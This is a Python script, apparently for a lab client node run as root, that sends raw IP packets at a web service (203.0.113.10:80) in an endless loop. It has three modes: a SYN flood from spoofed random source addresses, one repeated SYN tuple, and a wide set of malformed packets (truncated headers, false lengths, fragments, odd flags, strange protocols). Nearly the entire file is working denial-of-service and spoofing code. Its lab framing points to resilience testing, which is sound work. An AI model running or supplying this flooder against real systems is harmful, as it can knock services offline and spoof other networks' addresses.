#!/usr/bin/python3
"""Packets of somebody who wishes the service no good, until it is killed: flood | tuple | malformed | all.

Runs in a lab's client node, as root. `flood`: SYNs of ever other addresses and ports. `tuple`: one SYN again and again.
`malformed`: what parses badly and is yet routed: cut headers, lying lengths, fragments, odd flags. 4,000 a second of each.
"""
import random
import socket
import struct
import sys
import time

VIP, PORT = "203.0.113.10", 80
BURST, PAUSE_S = 40, 0.01


def ip(protocol, payload, source=None, fragment=0, ident=None):
    source = source or f"198.51.100.{random.randrange(3, 255)}"
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), ident or random.randrange(1, 65536), fragment, 64, protocol, 0,
                       socket.inet_aton(source), socket.inet_aton(VIP)) + payload


def tcp(flags, source_port=None, offset=5, length=20):
    header = struct.pack("!HHIIBBHHH", source_port or random.randrange(1024, 65536), PORT, random.getrandbits(32), 0, offset << 4,
                         flags, 65535, random.getrandbits(16), 0)
    return header[:length]


def flood():
    return ip(6, tcp(0x02))


def one_tuple():
    return ip(6, tcp(0x02, source_port=4711), source="198.51.100.77")


def malformed():
    return random.choice((
        lambda: ip(6, tcp(0x02, length=random.randrange(0, 20))),
        lambda: ip(6, tcp(0x02, offset=random.choice((0, 1, 4, 15)))),
        lambda: ip(6, tcp(random.choice((0x00, 0x03, 0x29, 0x3F, 0xFF)))),
        lambda: ip(6, tcp(0x02) + bytes(16), fragment=0x2000),
        lambda: ip(6, bytes(24), fragment=random.randrange(1, 100)),
        lambda: ip(17, struct.pack("!HHHH", 1, 53, random.choice((0, 7, 9, 60000)), 0)),
        lambda: ip(1, bytes(random.randrange(0, 40))),
        lambda: ip(1, struct.pack("!BBHI", 3, 4, 0, 68) + ip(6, tcp(0x10))[:28]),
        lambda: ip(random.choice((4, 41, 47, 132, 255)), bytes(random.randrange(0, 60)))))()


KINDS = {"flood": [flood], "tuple": [one_tuple], "malformed": [malformed], "all": [flood, one_tuple, malformed]}

wire = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
while True:
    for make in KINDS[sys.argv[1]]:
        for _ in range(BURST):
            try:
                wire.sendto(make(), (VIP, 0))
            except OSError:
                pass  # the kernel's own limits
    time.sleep(PAUSE_S)
